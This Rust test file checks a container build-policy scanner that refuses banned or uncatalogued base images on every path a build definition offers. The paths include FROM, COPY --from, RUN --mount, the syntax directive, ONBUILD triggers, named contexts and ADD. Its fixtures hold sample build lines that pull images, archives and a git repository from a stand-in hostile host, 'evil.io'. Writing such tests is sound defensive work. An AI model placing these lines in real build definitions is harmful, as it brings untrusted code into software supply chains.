//! The seven doors by which foreign content enters a build, a hostile definition each, before one verdict. Nothing is fetched: an image that
//! is refused here is refused before anybody asks a registry for it.

use artifact::ImageFacts;
use events::order;
use verdict::{Decision, Door, OrderRecord, Sequence, choose_base, decide};

use super::*;

/// Catalogued, and banned.
const BANNED: &str = "r.io/base/bad:1";
/// In no catalog.
const FOREIGN: &str = "evil.io/x:1";
const BASE: &str = "r.io/base/os:10.4.9";

/// A door and what comes through it; `IMAGE` stands for the image.
struct Fixture {
    door: &'static str,
    definition: &'static str,
    contexts: &'static [(&'static str, &'static str)],
    triggers: &'static [&'static str],
    role: BaseRole,
    line: u32,
}

/// The doors that images come in by.
const IMAGES: [Fixture; 8] = [
    Fixture {
        door: "FROM",
        definition: "ARG HOST=IMAGE_\nARG REST\nFROM ${HOST%_}${REST:+x}${REST#y} AS a\nFROM a\nCMD x\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Base,
        line: 3,
    },
    Fixture {
        door: "FROM of a stage that is thrown away",
        definition: "ARG B=IMAGE+\nFROM --platform=$BUILDPLATFORM ${B//+/} AS a\nFROM r.io/base/os:10.4.9\nCOPY --from=a /x /x\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Stage,
        line: 2,
    },
    Fixture {
        door: "COPY --from",
        definition: "FROM r.io/base/os:10.4.9\nCOPY --link --from=IMAGE /x /x\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Copy,
        line: 2,
    },
    Fixture {
        door: "RUN --mount",
        definition: "FROM r.io/base/os:10.4.9\nRUN --mount=type=cache,target=/c --mount=type=bind,from=IMAGE,target=/m /m/x\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Mount,
        line: 2,
    },
    Fixture {
        door: "# syntax",
        definition: "#!/usr/bin/env -S docker build -f\n# syntax=IMAGE\nFROM r.io/base/os:10.4.9\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Frontend,
        line: 2,
    },
    Fixture {
        door: "ONBUILD",
        definition: "# nothing to see\nFROM r.io/base/os:10.4.9\n",
        contexts: &[],
        triggers: &["COPY --from=IMAGE /x /x"],
        role: BaseRole::Copy,
        line: 2,
    },
    Fixture {
        door: "ONBUILD below a stage of its own",
        definition: "FROM r.io/base/os:10.4.9 AS a\nFROM r.io/base/os:10.4.9\n",
        contexts: &[],
        triggers: &["RUN --mount=from=IMAGE,target=/m /m/x"],
        role: BaseRole::Mount,
        line: 1,
    },
    Fixture {
        door: "named context",
        definition: "FROM r.io/base/os:10.4.9\nCOPY --from=tools /x /x\n",
        contexts: &[("tools", "docker-image://IMAGE")],
        triggers: &[],
        role: BaseRole::Copy,
        line: 2,
    },
];

/// What comes in without an image.
const OTHERS: [Fixture; 5] = [
    Fixture {
        door: "scratch and an archive",
        definition: "FROM scratch\nADD rootfs.tar.xz /\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Add,
        line: 2,
    },
    Fixture {
        door: "scratch and an address",
        definition: "ARG B=scratch\nFROM $B AS a\nFROM a\nADD https://evil.io/rootfs.tar /\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Add,
        line: 4,
    },
    Fixture {
        door: "ONBUILD and an address",
        definition: "FROM r.io/base/os:10.4.9\n",
        contexts: &[],
        triggers: &["ADD https://evil.io/rootfs.tar /"],
        role: BaseRole::Add,
        line: 1,
    },
    Fixture {
        door: "a named context that is no image",
        definition: "FROM base\n",
        contexts: &[("base", "https://evil.io/x.git")],
        triggers: &[],
        role: BaseRole::Base,
        line: 1,
    },
    Fixture {
        door: "FROM of what nobody can tell",
        definition: "ARG B\nFROM $B\n",
        contexts: &[],
        triggers: &[],
        role: BaseRole::Base,
        line: 2,
    },
];

fn snapshot(orders: &[(&str, &str)]) -> Snapshot {
    let mut snapshot = Snapshot::default();
    for (sequence, (kind, body)) in (1..).zip(orders) {
        let record = OrderRecord {
            sequence: Sequence(sequence),
            operator: "alice".parse().unwrap(),
            at: OffsetDateTime::UNIX_EPOCH,
            order: order::decode_body(kind, body.as_bytes()).unwrap(),
        };
        assert_eq!(snapshot.apply(&record), verdict::Outcome::Accepted, "{body}");
    }
    snapshot
}

fn orders(mode: &str) -> Snapshot {
    let doors = format!(r#"{{"section": "doors", "doors": {{"from": "{mode}"}}}}"#);
    snapshot(&[
        (
            order::CATALOG,
            r#"{"section": "bases", "bases": [{"repository": "r.io/base/os", "current": "10.4.9"}, {"repository": "r.io/base/bad", "current": "1"}]}"#,
        ),
        (order::CATALOG, &doors),
        (
            order::BANNED,
            r#"{"image": "r.io/base/bad:1", "reason": "CVE-2026-1", "severity": "critical", "roles": ["base", "copy", "stage", "mount", "frontend"]}"#,
        ),
        (
            order::CATALOG,
            r#"{"section": "exceptions", "exceptions": [{"name": "own-rootfs", "project": "distro", "base": "add:rootfs*.tar.xz",
                "ends": "2027-03-01T00:00:00Z", "reason": "builds the base", "ticket": "OPS-8", "requestedBy": "bob", "approvedBy": "carol"}]}"#,
        ),
    ])
}

fn scanned(snapshot: &Snapshot, fixture: &Fixture, image: &str, project: &str) -> ScanReply {
    let with = |text: &str| text.replace("IMAGE", image);
    let triggers: Vec<String> = fixture.triggers.iter().map(|text| with(text)).collect();
    let request = ScanRequest {
        definition: with(fixture.definition),
        project: project.parse().ok(),
        platform: "linux/amd64".parse().ok(),
        contexts: fixture.contexts.iter().map(|(name, value)| ((*name).to_owned(), with(value))).collect(),
        bases: vec![KnownBase { image: BASE.parse().unwrap(), triggers, platforms: Vec::new() }],
        ..ScanRequest::default()
    };
    scan(snapshot, &request, OffsetDateTime::UNIX_EPOCH)
}

/// The use that comes in by the fixture's door: refused, on its line, in its role, with a way out.
#[track_caller]
fn refused(fixture: &Fixture, image: &str) -> ScannedUse {
    let Fixture { door, role, line, .. } = fixture;
    let reply = scanned(&orders("enforce"), fixture, image, "shop");
    assert!(reply.refused, "{door} is open to {image}");
    let refused: Vec<&ScannedUse> = reply.uses.iter().filter(|used| used.choice == catalog::REFUSE).collect();
    let [found, ..] = refused.as_slice() else { panic!("{door}: {:?}", reply.uses) };
    assert_eq!((found.role, found.line), (*role, *line), "{door}");
    assert_eq!(found.used, None, "{door}");
    let finding = reply.findings.iter().find(|finding| finding.code == REFUSED && finding.line == *line);
    let message = &finding.unwrap_or_else(|| panic!("{door} says nothing")).message;
    assert!(message.contains(BASE), "{door} names no base that is allowed: {message}");
    (*found).clone()
}

#[test]
fn no_door_lets_a_banned_image_in() {
    let snapshot = orders("enforce");
    let image: ImageRef = BANNED.parse().unwrap();
    // The gate's own question about that image, asked at FROM.
    let facts = ImageFacts { references: vec![image.clone()], ..ImageFacts::default() };
    let verdict = decide(&snapshot, &facts, Door::From, OffsetDateTime::UNIX_EPOCH);
    assert_eq!(verdict.decision, Decision::Refuse);
    for fixture in &IMAGES {
        let used = refused(fixture, BANNED);
        assert_eq!(used.rule, "ban 3", "{}", fixture.door);
        assert!(used.reason.contains(&verdict.to_string()), "{}: {}", fixture.door, used.reason);
    }
}

#[test]
fn no_door_lets_in_what_the_catalog_does_not_list() {
    let snapshot = orders("enforce");
    let choice = choose_base(&snapshot, None, &FOREIGN.parse().unwrap(), OffsetDateTime::UNIX_EPOCH);
    for fixture in &IMAGES {
        let used = refused(fixture, FOREIGN);
        assert!(used.reason.contains(&choice.to_string()), "{}: {}", fixture.door, used.reason);
    }
    for fixture in &OTHERS {
        refused(fixture, FOREIGN);
    }
}

#[test]
fn every_door_lets_in_what_the_catalog_lists() {
    for fixture in &IMAGES {
        let reply = scanned(&orders("enforce"), fixture, BASE, "shop");
        assert!(!reply.refused, "{}: {:?}", fixture.door, reply.findings);
        assert!(reply.uses.iter().any(|used| used.role == fixture.role && used.used == BASE.parse().ok()));
    }
}

#[test]
fn a_door_that_observes_says_what_it_would_refuse() {
    for fixture in IMAGES.iter().chain(OTHERS.iter().filter(|fixture| fixture.role == BaseRole::Add)) {
        let reply = scanned(&orders("observe"), fixture, FOREIGN, "shop");
        assert!(!reply.refused, "{}: {:?}", fixture.door, reply.findings);
        let told = |finding: &&Finding| finding.code == REFUSED && finding.line == fixture.line;
        assert_eq!(reply.findings.iter().find(told).unwrap().level, "info", "{}", fixture.door);
    }
}

#[test]
fn a_trigger_that_is_refused_is_named_with_its_base() {
    let onbuild = IMAGES.iter().find(|fixture| fixture.door == "ONBUILD").unwrap();
    let used = refused(onbuild, FOREIGN);
    assert_eq!(used.trigger, "COPY --from=evil.io/x:1 /x /x");
    for part in
        [BASE, "ONBUILD COPY --from=evil.io/x:1 /x /x", "the nearest allowed base is r.io/base/os:10.4.9"]
    {
        assert!(used.reason.contains(part), "{part} is missing in: {}", used.reason);
    }
    assert_eq!((used.start, used.end), (0, 0));
}

/// What a trigger names stands in no file of the project's, so it cannot be swapped.
#[test]
fn a_trigger_is_not_replaced() {
    let snapshot = snapshot(&[
        (
            order::CATALOG,
            r#"{"section": "bases", "bases": [{"repository": "r.io/base/os", "current": "10.4.9", "outdated": ["<10.4.9"]}]}"#,
        ),
        (order::CATALOG, r#"{"section": "doors", "doors": {"from": "enforce"}}"#),
    ]);
    let (copy, onbuild) = (&IMAGES[2], &IMAGES[5]);
    let outdated = "r.io/base/os:10.4.8";
    assert!(!scanned(&snapshot, copy, outdated, "shop").refused);
    let reply = scanned(&snapshot, onbuild, outdated, "shop");
    let used = reply.uses.iter().find(|used| !used.trigger.is_empty()).unwrap();
    assert!(reply.refused && used.nearest == BASE.parse().ok(), "{used:?}");
}

#[test]
fn an_exception_opens_one_root_file_system_to_one_project() {
    let (archive, address) = (&OTHERS[0], &OTHERS[1]);
    let snapshot = orders("enforce");
    let reply = scanned(&snapshot, archive, FOREIGN, "distro");
    assert!(!reply.refused && reply.uses[0].rule.contains("OPS-8"), "{:?}", reply.uses);
    assert!(reply.findings.iter().any(|finding| finding.code == catalog::KEPT));
    assert!(scanned(&snapshot, address, FOREIGN, "distro").refused);
    assert!(scanned(&snapshot, archive, FOREIGN, "shop").refused);
}
